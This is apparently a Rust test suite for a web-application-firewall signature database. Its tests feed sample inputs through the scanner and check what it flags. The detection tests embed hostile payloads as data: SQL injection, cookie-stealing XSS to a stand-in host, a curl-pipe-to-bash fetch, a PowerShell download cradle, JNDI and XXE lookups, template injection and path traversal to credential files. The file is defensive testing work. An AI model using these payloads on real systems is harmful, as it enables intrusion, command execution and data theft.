//! Database tests: the shipped files load and compile quickly, every signature matches its own
//! positive examples and not its negative ones, set membership and lookups work, scans are bounded.

use super::*;

fn db() -> &'static SignatureDb {
    SignatureDb::builtin()
}

#[test]
fn builtin_database_loads() {
    let db = SignatureDb::from_texts(BUILTIN).expect("shipped database parses and compiles");
    assert!(db.signatures().len() >= 60, "{}", db.signatures().len());
    for s in db.signatures() {
        assert!(
            (300_000_000..400_000_000).contains(&s.id),
            "id {} outside our range",
            s.id
        );
        assert!(!s.sets.is_empty(), "{} has no set", s.id);
    }
}

#[test]
fn every_signature_matches_its_examples() {
    let mut failures = Vec::new();
    for d in db().definitions() {
        assert!(
            !d.tests.is_empty(),
            "signature {} has no positive example",
            d.info.id
        );
        let t = d.info.targets[0];
        for ex in &d.tests {
            let mut hits = Vec::new();
            db().scan(t, ex, &mut hits);
            if !hits.contains(&d.info.id) {
                let ex = String::from_utf8_lossy(ex);
                failures.push(format!("{} should match {ex:?}", d.info.id));
            }
        }
        for ex in &d.passes {
            let mut hits = Vec::new();
            db().scan(t, ex, &mut hits);
            if hits.contains(&d.info.id) {
                let ex = String::from_utf8_lossy(ex);
                failures.push(format!("{} should not match {ex:?}", d.info.id));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn ordinary_values_raise_nothing() {
    let ordinary = [
        "hello world",
        "john.smith@example.com",
        "2025-11-22T10:00:00Z",
        "https://www.example.com/products?id=42&sort=price",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0",
        "The quick brown fox jumps over the lazy dog; then it sleeps.",
        "{\"name\":\"Widget\",\"price\":12.5,\"tags\":[\"a\",\"b\"]}",
        "en-US,en;q=0.9",
        "select your country",
        "Tom & Jerry",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc",
    ];
    for v in ordinary {
        for &t in &[Target::ParamValue, Target::Header, Target::Json] {
            let mut hits = Vec::new();
            db().scan(t, v.as_bytes(), &mut hits);
            // Header-scoped signatures (`headers:`) are kept to their header names by the caller.
            hits.retain(|id| db().get(*id).is_none_or(|s| s.headers.is_empty()));
            assert!(hits.is_empty(), "{v:?} in {t:?} raised {hits:?}");
        }
    }
}

#[test]
fn targets_restrict_where_a_signature_applies() {
    let mut hits = Vec::new();
    db().scan(Target::Header, b"sqlmap/1.7", &mut hits);
    assert!(hits.contains(&300_006_013));
    hits.clear();
    db().scan(Target::ParamValue, b"sqlmap/1.7", &mut hits);
    assert!(!hits.contains(&300_006_013));
}

#[test]
fn evasions_are_seen_through() {
    let cases: &[&str] = &[
        "c'a't /e't'c/passwd",
        "1/**/UNION/**/SELECT/**/1,2",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "${\\u006a\\u006e\\u0064\\u0069:ldap://x/a}",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ];
    for c in cases {
        let mut hits = Vec::new();
        db().scan(Target::ParamValue, c.as_bytes(), &mut hits);
        assert!(!hits.is_empty(), "{c:?} not detected");
    }
}

#[test]
fn lookups_and_sets() {
    let s = db().get(300_001_001).expect("UNION SELECT signature");
    assert_eq!(s.attack_type, "SQL-Injection");
    assert!(s.sets.iter().any(|x| x == "SQL Injection Signatures"));
    assert!(s.sets.iter().any(|x| x == "Generic Detection Signatures"));
    assert!(s.sets.iter().any(|x| x == "High Accuracy Signatures"));
    let php = db().get(300_005_001).expect("PHP tag signature");
    assert_eq!(php.systems, vec!["PHP".to_string()]);
    assert!(!php.sets.iter().any(|x| x == "Generic Detection Signatures"));
    assert!(db().get(1).is_none());
    let sqli: Vec<u32> = db().ids_in_set("SQL Injection Signatures").collect();
    assert!(sqli.contains(&300_001_001) && !sqli.contains(&300_002_001));
    assert_eq!(
        db().ids_in_set("All Signatures").count(),
        db().signatures().len()
    );
    let names = db().set_names();
    for n in [
        "High Accuracy Signatures",
        "Generic Detection Signatures",
        "Cross Site Scripting Signatures",
    ] {
        assert!(names.contains(&n), "{n} missing from {names:?}");
    }
}

#[test]
fn bad_databases_are_rejected_with_a_reason() {
    let dup = "id: 1\nname: a\ntype: t\naccuracy: low\nrisk: low\ntargets: url\nliteral: x\n\n\
               id: 1\nname: b\ntype: t\naccuracy: low\nrisk: low\ntargets: url\nliteral: y\n";
    assert!(matches!(
        SignatureDb::from_texts(&[dup]),
        Err(LoadError::Duplicate(1))
    ));
    let bad = "id: 2\nname: a\ntype: t\naccuracy: low\nrisk: low\ntargets: url\nregex: (unclosed\n";
    let e = SignatureDb::from_texts(&[bad]).err().expect("bad regex");
    assert!(e.to_string().contains("signature 2"), "{e}");
    let huge = "id: 3\nname: a\ntype: t\naccuracy: low\nrisk: low\ntargets: url\nregex: (?:a{1000}){1000}\n";
    assert!(
        SignatureDb::from_texts(&[huge]).is_err(),
        "size limit enforced"
    );
}

/// CPU time of the calling thread (Linux: `/proc/thread-self/stat`, in clock ticks of 10 ms), so
/// that the other tests compiling the database at the same time on a busy machine do not count.
fn thread_cpu() -> Option<std::time::Duration> {
    let stat = std::fs::read_to_string("/proc/thread-self/stat").ok()?;
    // Fields after the command name, which is in parentheses and may hold spaces.
    let mut fields = stat.rsplit_once(')')?.1.split_whitespace();
    let utime: u64 = fields.nth(11)?.parse().ok()?;
    let stime: u64 = fields.next()?.parse().ok()?;
    Some(std::time::Duration::from_millis((utime + stime) * 10))
}

#[test]
fn compiles_quickly() {
    let (wall, cpu) = (std::time::Instant::now(), thread_cpu());
    let _db = SignatureDb::from_texts(BUILTIN).expect("compiles");
    let took = match (cpu, thread_cpu()) {
        (Some(a), Some(b)) => b - a,
        _ => wall.elapsed(),
    };
    // A guard against a pattern whose compile explodes, not a speed figure (the `compile_database`
    // bench measures that): an unoptimised build on a loaded machine stays well inside this bound.
    assert!(took.as_millis() < 5000, "compile took {took:?} of CPU time");
}

#[test]
fn large_clean_body_scans_without_hits() {
    let body = "lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(2000);
    let mut hits = Vec::new();
    db().scan(Target::Body, body.as_bytes(), &mut hits);
    assert!(hits.is_empty(), "{hits:?}");
}

#[test]
fn fuzz_seeds_never_panic() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fuzz/seeds/scan");
    for e in std::fs::read_dir(dir)
        .expect("seed directory exists")
        .flatten()
    {
        let data = std::fs::read(e.path()).expect("seed readable");
        for &t in Target::ALL {
            let mut hits = Vec::new();
            db().scan(t, &data, &mut hits);
        }
    }
}

/// Hand-written attacks of every class, none taken from the evaluation corpus: the database must
/// generalise beyond the samples it was tuned on.
#[test]
fn unseen_attacks_of_every_class_are_detected() {
    let attacks: &[(Target, &str)] = &[
        (
            Target::ParamValue,
            "-1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -",
        ),
        (
            Target::ParamValue,
            "1 AND (SELECT 5171 FROM (SELECT(SLEEP(5)))xYzA)",
        ),
        (Target::Json, "admin\"/**/or/**/1=1#"),
        (Target::Cookie, "abc'; EXEC xp_cmdshell('whoami');--"),
        (
            Target::ParamValue,
            "<details open ontoggle=fetch('//x.example/'+document.cookie)>",
        ),
        (Target::ParamValue, "<svg><script href=data:,alert(1) />"),
        (Target::Header, "\"><img src=1 onerror=confirm`1`>"),
        (
            Target::ParamValue,
            "x;curl -s http://198.51.100.7/a.sh|bash",
        ),
        (Target::ParamValue, "$(nslookup `whoami`.x.example)"),
        (
            Target::ParamValue,
            "127.0.0.1 | powershell -nop -c iex(New-Object Net.WebClient)",
        ),
        (Target::ParamValue, "....//....//....//etc/shadow"),
        (Target::Url, "/static/..%5c..%5c..%5cwindows/win.ini"),
        (
            Target::ParamValue,
            "php://filter/read=convert.base64-encode/resource=../config.php",
        ),
        (Target::ParamValue, "https://198.51.100.3/shell.txt?"),
        (
            Target::ParamValue,
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        ),
        (
            Target::ParamValue,
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        ),
        (Target::Json, "{\"$where\": \"sleep(5000) || true\"}"),
        (Target::ParamName, "password[$regex]"),
        (Target::ParamValue, "*)(|(cn=*))"),
        (
            Target::Xml,
            "<!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://x.example/e.dtd\"> %ext;]>",
        ),
        (Target::ParamValue, "http://[::ffff:127.0.0.1]:6379/"),
        (Target::Header, "${jndi:rmi://x.example:1099/o}"),
        (Target::Header, "() { ignored; }; /bin/bash -c 'id'"),
        (Target::ParamValue, "en\r\nLocation: https://evil.example/"),
        (
            Target::ParamValue,
            "<!--#include virtual=\"/etc/passwd\" -->",
        ),
        (
            Target::ParamValue,
            "require('child_process').execSync('cat /etc/passwd')",
        ),
        (
            Target::ParamValue,
            "java.lang.Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})",
        ),
        (
            Target::Header,
            "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        ),
        (Target::ParamValue, "x@example.com%0ABcc:all@example.com"),
        (
            Target::ParamValue,
            "O:8:\"Example1\":1:{s:10:\"cache_file\";s:15:\"../../index.php\";}",
        ),
    ];
    let mut missed = Vec::new();
    for (t, a) in attacks {
        let mut hits = Vec::new();
        db().scan(*t, a.as_bytes(), &mut hits);
        if hits.is_empty() {
            missed.push(*a);
        }
    }
    assert!(missed.is_empty(), "missed: {missed:#?}");
}

/// Ordinary input that looks a little like an attack must pass.
#[test]
fn benign_near_misses_pass() {
    let benign = [
        "Please select a union representative from the list",
        "Drop me a line; I'll update you on Monday",
        "rock & roll | jazz; blues",
        "C:/Users/me/Documents/report.docx",
        "The script ran; see /var/tmp for output",
        "width=100&height=200",
        "I'd like 2 <3 of these",
        "email me at first.last+tag@example.co.uk",
        "SELECT-ed items: 4",
        "what's 5 * 6?",
        "Sleep well, and dream",
        "1.2.3",
        "Tom's order #42 (urgent)",
        "{\"user\":\"alice\",\"roles\":[\"reader\"]}",
        "Java and JavaScript are different languages",
        "curl up with a good book",
        "price: $19.99",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15",
    ];
    let mut flagged = Vec::new();
    for b in benign {
        let mut hits = Vec::new();
        db().scan(Target::ParamValue, b.as_bytes(), &mut hits);
        if !hits.is_empty() {
            flagged.push(format!("{b:?} -> {hits:?}"));
        }
    }
    assert!(flagged.is_empty(), "{flagged:#?}");
}

/// Every value through `scan_memoized` twice (the second answered from the memo): the same hits as
/// `scan`, target by target.
fn assert_memo_agrees(db: &SignatureDb, values: &[&[u8]]) {
    for round in 0..2 {
        for &value in values {
            for &target in Target::ALL {
                let (mut direct, mut memoized) = (vec![7], vec![7]);
                db.scan(target, value, &mut direct);
                with_memo(|m| db.scan_memoized(m.into(), target, value, &mut memoized));
                assert_eq!(
                    memoized,
                    direct,
                    "round {round}, {target:?}, {:?}",
                    String::from_utf8_lossy(value)
                );
            }
        }
    }
}

#[test]
fn memoized_scans_answer_as_scans_do() {
    let values: [&[u8]; 6] = [
        b"' or 1=1 --",
        b"<script>alert(1)</script>",
        b"../../etc/passwd",
        b"red running shoes",
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        b"a",
    ];
    // Not vacuous: some value's answer depends on the target, so a memo mixing targets would fail.
    let answers = |v: &[u8]| -> Vec<Vec<u32>> {
        Target::ALL
            .iter()
            .map(|&t| {
                let mut hits = Vec::new();
                db().scan(t, v, &mut hits);
                hits
            })
            .collect()
    };
    assert!(values.iter().any(|v| {
        let per_target = answers(v);
        per_target.iter().any(|h| *h != per_target[0])
    }));
    assert_memo_agrees(db(), &values);
}

#[test]
fn a_memo_lent_already_leaves_the_scan_to_the_matcher() {
    let value: &[u8] = b"' or 1=1 -- lent memo";
    let mut direct = Vec::new();
    db().scan(Target::ParamValue, value, &mut direct);
    assert!(!direct.is_empty());
    let nested = with_memo(|outer| {
        assert!(outer.is_some(), "the first borrow is lent the memo");
        with_memo(|inner| {
            assert!(
                inner.is_none(),
                "a second borrow while the first is out gets none"
            );
            let mut hits = Vec::new();
            db().scan_memoized(inner.into(), Target::ParamValue, value, &mut hits);
            let mut at_look_up = Vec::new();
            db().scan_memoized(
                MemoUse::AtLookUp,
                Target::ParamValue,
                value,
                &mut at_look_up,
            );
            assert_eq!(
                at_look_up, hits,
                "a look-up while the memo is out scans plainly"
            );
            hits
        })
    });
    assert_eq!(nested, direct);
    assert!(
        !db().memoizes(Target::ParamValue, value),
        "nothing kept without the memo"
    );
}

#[test]
fn memo_keeps_databases_apart() {
    let other = SignatureDb::from_texts(&[
        "id: 1\nname: shoes\ntype: t\naccuracy: low\nrisk: low\ntargets: header\nliteral: shoes\n",
    ])
    .expect("compiles");
    let value: &[u8] = b"red running shoes";
    // Scanned as one header's value: the builtin database's signatures scoped to other header
    // names (`Request-Range` takes any value) stay out, as in the engine.
    let mut builtin_hits = Vec::new();
    with_memo(|m| db().scan_header("x-note", value, &mut builtin_hits, m.into()));
    let mut other_hits = Vec::new();
    with_memo(|m| other.scan_header("x-note", value, &mut other_hits, m.into()));
    assert_eq!((builtin_hits, other_hits), (vec![], vec![1]));
    assert_memo_agrees(&other, &[value]);
}

#[test]
fn memo_survives_floods_and_long_values() {
    // Far more distinct values than the memo holds, then the first again: evicted, rescanned.
    let flood: Vec<Vec<u8>> = (0..4 * memo::SLOTS)
        .map(|i| format!("value {i} ' or {i}={i} --").into_bytes())
        .collect();
    let refs: Vec<&[u8]> = flood.iter().map(Vec::as_slice).collect();
    assert_memo_agrees(db(), &refs[..8]);
    with_memo(|mut m| {
        for v in &refs {
            db().scan_memoized(
                m.as_deref_mut().into(),
                Target::ParamValue,
                v,
                &mut Vec::new(),
            );
        }
    });
    assert_memo_agrees(db(), &refs[..8]);
    let long = format!("{}<script>alert(1)</script>", "a".repeat(memo::MAX_VALUE));
    assert_memo_agrees(db(), &[long.as_bytes()]);
}

#[test]
fn settled_only_what_the_memo_holds_clean() {
    let clean: &[u8] = b"Healthy and active, enjoys long walks";
    let attack: &[u8] = b"1' or '1'='1' --";
    with_memo(|m| {
        let m = m.expect("the memo is free");
        for v in [clean, attack] {
            assert!(
                !db().settled(MemoUse::Lent(&mut *m), Target::Json, v),
                "not yet scanned"
            );
            let mut hits = Vec::new();
            db().scan_memoized(MemoUse::Lent(&mut *m), Target::Json, v, &mut hits);
            assert_eq!(hits.is_empty(), v == clean);
        }
        assert!(db().settled(MemoUse::Lent(&mut *m), Target::Json, clean));
        // Held with its hits: never settled, so they are reported again.
        assert!(!db().settled(MemoUse::Lent(&mut *m), Target::Json, attack));
        // Another target's answer is not this one's.
        assert!(!db().settled(MemoUse::Lent(&mut *m), Target::Body, clean));
    });
    assert!(
        !db().settled(MemoUse::Off, Target::Json, clean),
        "no memo, no answer"
    );
}

/// Short values of ordinary bytes, and words that are attacks on their own (`rO0AB`, `exec`,
/// `systeminfo`, `--`), many of them near the lengths `plainly_clean` settles by.
fn plain_and_near_plain_values() -> Vec<Vec<u8>> {
    let tokens: &[&[u8]] = &[
        b"a",
        b"Z",
        b"7",
        b"42",
        b"id",
        b"or",
        b"-",
        b"_",
        b".",
        b" ",
        b",",
        b":",
        b"/",
        b"--",
        b"..",
        b"rO0AB",
        b"exec",
        b"drop",
        b"union",
        b"select",
        b"sleep",
        b"systeminfo",
        b"ipconfig",
        b"2852039166",
        b"aced0005",
        b"whoami",
        b"cat",
        b"etc",
        b"passwd",
        b"'",
        b"<",
        b"=",
        b"%",
        b";",
        b"|",
    ];
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    (0..30_000)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let mut s = seed;
            let mut v = Vec::new();
            for _ in 0..(seed % 4) + 1 {
                v.extend_from_slice(tokens[(s % tokens.len() as u64) as usize]);
                s = s.rotate_right(7) ^ seed;
            }
            v
        })
        .collect()
}

/// What `plainly_clean` settles without scanning, a full scan finds nothing in, on every target
/// (and every header name's selection).
#[test]
fn plainly_clean_values_hold_no_match() {
    let db = db();
    let mut settled = 0;
    for v in plain_and_near_plain_values() {
        for &target in Target::ALL {
            for sel in db.matcher.selections_of(target) {
                if db.matcher.plainly_clean(sel, &v) {
                    settled += 1;
                    let mut hits = Vec::new();
                    db.matcher.scan(sel, &v, &mut hits);
                    assert!(
                        hits.is_empty(),
                        "{sel:?} {:?}: {hits:?}",
                        String::from_utf8_lossy(&v)
                    );
                }
            }
        }
    }
    assert!(settled > 10_000, "plain values must be settled: {settled}");
    // The bounds shrink as the alphabets grow: a value is then settled by the alphabets its
    // length allows exactly when it is by its own first alphabet's bound.
    for bounds in db.matcher.plain_bounds() {
        assert!(bounds.windows(2).all(|w| w[0] >= w[1]), "{bounds:?}");
    }
    // Attack words are not settled, however short.
    for v in [&b"rO0AB"[..], b"exec", b"drop"] {
        assert!(
            !db.matcher
                .plainly_clean(db.matcher.selection(Target::ParamValue), v)
        );
    }
    for v in [&b"20"[..], b"2024", b"en", b"q"] {
        assert!(
            db.matcher
                .plainly_clean(db.matcher.selection(Target::ParamValue), v)
        );
    }
    assert!(
        !db.matcher
            .plainly_clean(db.matcher.selection(Target::Url), b"x")
    );
}

#[test]
fn header_values_are_scanned_with_the_signatures_of_their_header() {
    let names = [
        "accept",
        "range",
        "proxy",
        "user-agent",
        "referer",
        "x-original-url",
    ];
    let mut values: Vec<&[u8]> = vec![b"text/html;q=0.9,*/*;q=0.8", b"Mozilla/5.0 (X11)"];
    for d in db().definitions() {
        if d.info.targets.contains(&Target::Header) {
            values.extend(d.tests.iter().chain(&d.passes).map(Vec::as_slice));
        }
    }
    let mut scoped_hits = 0;
    for v in values {
        let mut all = Vec::new();
        db().scan(Target::Header, v, &mut all);
        for name in names {
            // What scanning with every header signature and then keeping the header's own
            // gives, the header's selection gives directly (memoized or not).
            let mut expected = all.clone();
            expected.retain(|id| {
                db().get(*id)
                    .is_some_and(|s| s.headers.is_empty() || s.headers.iter().any(|h| h == name))
            });
            for memoize in [false, true, true] {
                let mut hits = Vec::new();
                with_memo(|m| db().scan_header(name, v, &mut hits, m.filter(|_| memoize).into()));
                assert_eq!(hits, expected, "{v:?} in {name}, memoized: {memoize}");
            }
            scoped_hits += expected
                .iter()
                .filter(|id| db().get(**id).is_some_and(|s| !s.headers.is_empty()))
                .count();
        }
    }
    // The examples include header-scoped signatures' own, found on their headers.
    assert!(scoped_hits > 5, "{scoped_hits}");
}

/// A raw serialized Java object (what `application/x-java-serialized-object` bodies and RMI/T3
/// payloads carry) is found by its magic bytes `AC ED 00 05`: byte escapes in literals are bytes.
#[test]
fn raw_serialized_java_objects_are_caught_by_their_magic_bytes() {
    let mut stream = vec![0xac, 0xed, 0x00, 0x05, b's', b'r', 0x00, 0x11];
    stream.extend_from_slice(b"java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F");
    for target in [Target::Body, Target::ParamValue] {
        let mut hits = Vec::new();
        db().scan(target, &stream, &mut hits);
        assert!(
            hits.contains(&300005007) && hits.contains(&300005101),
            "{target:?}: {hits:?}"
        );
    }
    // The characters U+00AC U+00ED in text are not the magic bytes.
    let mut hits = Vec::new();
    db().scan(
        Target::Body,
        "¬í\u{0}\u{5}sr java.util.HashMap".as_bytes(),
        &mut hits,
    );
    assert!(!hits.contains(&300005101), "{hits:?}");
}

#[test]
fn a_query_string_match_held_only_by_an_exempt_value_is_that_values() {
    let scan = |q: &str| {
        let mut hits = Vec::new();
        db().scan(Target::QueryString, q.as_bytes(), &mut hits);
        hits
    };
    // An ad beacon reporting the page it is on: that page's SQL search is in a URL, which
    // the parameter's own scan exempts; the whole string must agree.
    let beacon = "zones=1|2|3|5&r=33779185&loc=https://segmentfault.com/search?q=select user_id,\
                  user_nickname from yy_user where user_status = 1&referer=https://segmentfault.com/a/1";
    assert!(!scan(beacon).contains(&300_001_013), "{:?}", scan(beacon));
    // A subquery in a value that is not a URL still counts beside one.
    let attack = "loc=https://segmentfault.com/&id=1 and (select 1 from dual)";
    assert!(scan(attack).contains(&300_001_013), "{:?}", scan(attack));
}
